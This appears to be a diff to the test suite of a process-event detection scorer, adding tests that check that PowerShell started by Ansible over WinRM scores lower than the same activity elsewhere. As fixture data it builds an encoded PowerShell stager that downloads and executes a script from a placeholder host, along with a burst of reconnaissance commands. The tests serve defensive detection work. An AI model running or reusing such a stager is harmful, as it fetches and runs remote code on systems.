@@ -179,6 +179,44 @@ def test_what_many_hosts_do_counts_for_less() -> None:
     assert result["score"].iloc[-1] > result["score"].iloc[:-1].max()
 
 
+BOOTSTRAP = "powershell -enc " + b64(
+    "&chcp.com 65001 > $null\n$exec_wrapper_str = $input | Out-String\n"
+    "$split_parts = $exec_wrapper_str.Split(@('`0`0`0`0'), 2, 'RemoveEmptyEntries')"
+)
+STAGER = "powershell -enc " + b64("IEX (IWR https://stage.example.com/a.ps1)")
+
+
+@pytest.mark.parametrize(
+    ("grandparent", "parent", "counts_for_less"),
+    [
+        ("winrshost.exe", BOOTSTRAP, True),  # Ansible over WinRM
+        ("explorer.exe", BOOTSTRAP, False),  # only says so
+        ("winrshost.exe", "powershell -enc " + b64("Get-ChildItem C:\\Users"), False),
+    ],
+)
+def test_only_what_configuration_management_starts_counts_for_less(
+    grandparent: str, parent: str, counts_for_less: bool
+) -> None:
+    def score(above: str, command: str) -> float:
+        rows = frame(
+            started(100, 11, 10, above, "powershell.exe", command),
+            started(101, 12, 11, "powershell.exe", "powershell.exe", STAGER),
+        )
+        return annotated(rows)["score"].iloc[1]
+
+    ordinary = score("explorer.exe", "powershell -enc " + b64("Get-ChildItem C:\\Users"))
+    assert (score(grandparent, parent) < 0.8 * ordinary) == counts_for_less
+
+
+def test_script_of_configuration_management_is_no_family_of_attacks() -> None:
+    rows = frame(started(100, 11, 10, "winrshost.exe", "powershell.exe", BOOTSTRAP))
+    other = "powershell -enc " + b64("Get-ChildItem C:\\Users -Recurse")
+    same = frame(started(100, 11, 10, "winrshost.exe", "powershell.exe", other))
+    assert annotated(rows)["score"].iloc[0] == pytest.approx(
+        annotated(same)["score"].iloc[0], rel=0.1
+    )
+
+
 def test_questions_in_a_burst_add_up() -> None:
     tools = ["whoami.exe", "ipconfig.exe", "netstat.exe", "tasklist.exe", "systeminfo.exe"]
     burst = [started(n, 10 + n, 5, "cmd.exe", tool) for n, tool in enumerate(tools)]
@@ -297,5 +335,4 @@ def test_build_automation_ranks_below_attacks(published: pd.DataFrame) -> None:
     labelled = published.merge(labels[[*key, "label"]], on=key)
     attacks = labelled[labelled["label"] == "attack"]["score"].to_numpy()
     automation = labelled[labelled["label"] == "automation"]["score"].to_numpy()
-    assert (attacks[:, None] > automation).mean() > 0.98
-    assert np.quantile(attacks, 0.1) > np.quantile(automation, 0.9)
+    assert attacks.min() > automation.max()
